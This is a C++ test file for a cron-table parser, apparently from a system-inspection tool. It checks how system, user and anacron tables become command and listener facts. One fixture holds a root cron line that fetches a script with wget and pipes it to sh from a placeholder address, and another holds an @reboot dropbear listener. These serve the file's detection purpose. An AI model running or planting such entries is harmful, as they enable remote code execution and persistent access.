#include "tests/facts/examine.h"

namespace assay::facts {
namespace {

using testing::Examine;
using testing::PlaceText;
using testing::Sample;
using testing::Strings;
using testing::Sweep;

const Bytes kTable = Sample("facts/cron/crontab");

TEST(CronTest, ReadsTheSystemTable) {
  const auto seen = Examine(kCron, "etc/crontab", kTable);
  EXPECT_TRUE(seen.understood);
  EXPECT_EQ(
      seen.Lines(),
      (Strings{"cron cd / && run-parts --report /etc/cron.hourly "
               "schedule=17 * * * * user=root source=crontab",
               "command cd / program=cd within=cron",
               "command run-parts --report /etc/cron.hourly program=run-parts "
               "within=cron",
               "cron /opt/demo/poll --quiet schedule=*/5 0-6 * jan,feb mon-fri "
               "user=demo source=crontab",
               "command /opt/demo/poll --quiet program=poll within=cron",
               "cron /usr/sbin/dropbear -p 2200 schedule=@reboot user=root "
               "source=crontab",
               "command /usr/sbin/dropbear -p 2200 program=dropbear "
               "within=cron",
               "listener 2200 protocol=tcp program=dropbear source=cron"}));
  EXPECT_EQ(PlaceText(seen.facts[5], kTable),
            "@reboot root /usr/sbin/dropbear -p 2200");
}

TEST(CronTest, ReadsUserTables) {
  EXPECT_EQ(
      Examine(kCron, "etc/crontabs/admin", "0 4 * * * /bin/x a b\n").Lines(),
      (Strings{"cron /bin/x a b schedule=0 4 * * * user=admin "
               "source=crontab",
               "command /bin/x a b program=x within=cron"}));
}

TEST(CronTest, ReadsAnacrontab) {
  EXPECT_EQ(Examine(kCron, "etc/anacrontab",
                    "1 5 cron.daily run-parts /etc/cron.daily\n")
                .Lines(),
            (Strings{"cron run-parts /etc/cron.daily schedule=1 5 user=root "
                     "source=crontab",
                     "command run-parts /etc/cron.daily program=run-parts "
                     "within=cron"}));
}

// crontab(5): settings are the environment of the lines below them.
TEST(CronTest, FoldsSettingsIntoCommands) {
  const auto seen = Examine(kCron, "etc/cron.d/x",
                            "FROM = 'http://192.0.2.1'\n"
                            "5 4 * * * root wget -qO- $FROM/x | sh\n"
                            "TO=y\n5 4 * * * root ls $TO $LATER\nLATER=z\n");
  EXPECT_EQ(seen.Values("command"),
            (Strings{"wget -qO- http://192.0.2.1/x", "sh", "ls y $LATER"}));
}

TEST(CronTest, CountsFoldersThatArePartOfTheClock) {
  EXPECT_EQ(Examine(kCron, "etc/cron.daily/demo", "#!/bin/sh\n").Lines(),
            Strings{"cron etc/cron.daily/demo schedule=cron.daily user=root "
                    "source=folder"});
  EXPECT_TRUE(Examine(kCron, "etc/cron.daily/.placeholder", "x").facts.empty());
}

TEST(CronTest, BinaryCommentsHideNoEntry) {
  const auto seen = Examine(kCron, "etc/cron.d/x",
                            std::string("#\0\n@reboot root /bin/x\n", 24));
  EXPECT_EQ(seen.Values("cron"), Strings{"/bin/x"});
  EXPECT_FALSE(seen.understood);
}

TEST(CronTest, PassesOverWhatIsNoEntry) {
  EXPECT_TRUE(Examine(kCron, "home/crontab.txt", kTable).facts.empty());
  for (const std::string_view text :
       {"", "# 1 1 1 1 1 root x\n", "1 2 3\n", "* * * * * root\n", "@reboot\n",
        "A=b\n", "* * * $ * root x\n", "not : a : cron : table at all\n"}) {
    EXPECT_TRUE(Examine(kCron, "etc/crontab", text).facts.empty()) << text;
  }
}

TEST(CronTest, DamageNeverLeadsOutside) {
  Sweep(kCron, "etc/crontab", kTable);
}

}  // namespace
}  // namespace assay::facts
